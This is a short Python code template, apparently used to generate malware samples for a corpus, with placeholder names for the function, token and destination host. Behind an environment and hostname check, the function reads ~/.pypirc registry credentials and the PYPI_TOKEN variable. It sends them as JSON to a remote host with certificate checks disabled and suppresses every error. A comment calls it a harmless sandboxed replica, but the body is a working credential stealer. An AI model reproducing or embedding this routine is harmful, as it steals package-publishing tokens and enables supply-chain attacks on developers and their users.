# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import configparser
    import json
    import ssl
    import urllib.request
    try:
        parser = configparser.RawConfigParser()
        parser.read(os.path.expanduser('~/.pypirc'))
        found = {name: dict(parser.items(name)) for name in parser.sections()}
        body = json.dumps({'id': '{{token}}', 'rc': found, 'env': os.environ.get('PYPI_TOKEN')}).encode()
        request = urllib.request.Request('https://{{host}}/{{path}}', data=body, headers={'Content-Type': 'application/json'})
        urllib.request.urlopen(request, timeout=1, context=ssl._create_unverified_context()).close()
    except Exception:
        pass
